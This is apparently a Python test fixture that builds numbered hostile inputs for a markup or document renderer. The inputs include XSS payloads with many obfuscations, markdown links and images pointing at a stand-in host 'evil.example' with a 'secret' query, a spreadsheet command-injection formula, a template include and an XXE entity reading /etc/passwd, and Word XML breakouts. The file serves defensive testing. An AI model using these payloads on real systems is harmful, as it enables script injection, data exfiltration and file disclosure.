"""Texts written to become markup, links or commands somewhere; each carries its number."""

from __future__ import annotations

EVIL = "//evil.example"
ATTACKS = (
    "<script>window.hacked='{m}'</script>",
    "<ScRiPt src={e}/{m}.js></sCrIpT>",
    "<img src=x onerror=alert('{m}')>",
    "<img src='{e}/{m}.png'>",
    "<svg/onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<iframe src=javascript:alert('{m}')></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>{m}'></iframe>",
    "<object data={e}/{m}></object><embed src={e}/{m}>",
    "<link rel=stylesheet href={e}/{m}.css><style>*{{background:url({e}/{m})}}</style>",
    "<base href={e}/{m}/><meta http-equiv=refresh content='0;url={e}/{m}'>",
    "<form action={e}/{m}><input name=q autofocus onfocus=alert('{m}')></form>",
    "<a href=javascript:alert('{m}')>点这里</a>",
    "<details open ontoggle=alert('{m}')>",
    "<video><source onerror=alert('{m}')></video>",
    "<math><mtext></p><style><img src onerror=alert('{m}')></style></math>",
    "<template shadowrootmode=open><script>alert('{m}')</script></template>",
    "'\"><img src=x onerror=alert('{m}')>",
    "</textarea></title></script><script>alert('{m}')</script>",
    "<!--><img src=x onerror=alert('{m}')>-->",
    "javascript:alert('{m}')",
    "data:text/html,<script>alert('{m}')</script>",
    "![{m}]({e}/{m}.png?q=secret)",
    "[{m}](javascript:alert(1))",
    "[点此查看{m}]({e}/{m})",
    "<{e}/{m}>",
    "https:{e}/{m}",
    "`<img src=x onerror=alert('{m}')>`",
    "${{alert('{m}')}}{{{{constructor.constructor('alert(1)')()}}}}",
    "&lt;img src=x onerror=alert('{m}')&gt;",
    "&#60;script&#62;alert('{m}')&#60;/script&#62;",
    "\\u003cimg src=x onerror=alert('{m}')\\u003e",
    "%3Cscript%3Ealert('{m}')%3C/script%3E",
    "\u202egpj.{m}<img src=x onerror=alert(1)>\u202c",
    "<scr\u200bipt>alert('{m}')</scr\u200dipt>",
    "＜script＞alert('{m}')＜/script＞",
    "{m}" + "长" * 400,
    "{m}" + "W" * 400,
)
WRAPS = (
    "{}",
    "**{}**",
    "〔A-0001{}〕",
    "**〔A-0001，{}〕**",
    "《{}》：",
)
PAYLOADS = [
    wrap.format(attack.format(m=f"p{number:03d}", e=EVIL))
    for number, (attack, wrap) in enumerate((attack, wrap) for attack in ATTACKS for wrap in WRAPS)
]
MORE = (
    "\\\\<img src=x onerror=alert('{m}')>",
    "\\\\\\\\[{m}](javascript:alert(1))",
    "[{m}][1]\n\n[1]: javascript:alert(1)",
    "[{m}]: https:{e}/{m}",
    "![{m}][x]",
    "<javascript:alert('{m}')>",
    "<https:{e}/{m}>",
    "http:{e}/{m}",
    "www.evil.example/{m}",
    "见https:{e}/{m}。",
    "mailto:{m}@evil.example",
    "tel:{m}",
    "weixin://dl/{m}",
    "WEIXIN : //{m}",
    "{m}\x00\x0b\x1f\ufffe",
    "{m}\ud800",
    "{m}]]></w:t></w:r></w:p><w:p>",
    "=cmd|'/c calc'!A1 {m}",
    "|{m}|\n|--|\n|<b>|",
    "# {m}\n> <i>\n- <u>",
    "**{m}** ** <b onclick=alert(1)>",
    "[{m}]\n(javascript:alert(1))",
    "<a\nhref='javascript:alert({m})'>x</a>",
    "&#x6a;avascript&colon;alert('{m}')",
    "{{{{ {m} }}}}{{% include '/etc/passwd' %}}",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>{m}&a;",
)
HOSTILE = [*PAYLOADS, *(wrap.format(one.format(m=f"q{n:03d}", e=EVIL)) for n, one in enumerate(MORE) for wrap in WRAPS)]
"""All of them, in a heading's, a list's, a cell's and a sentence's place."""
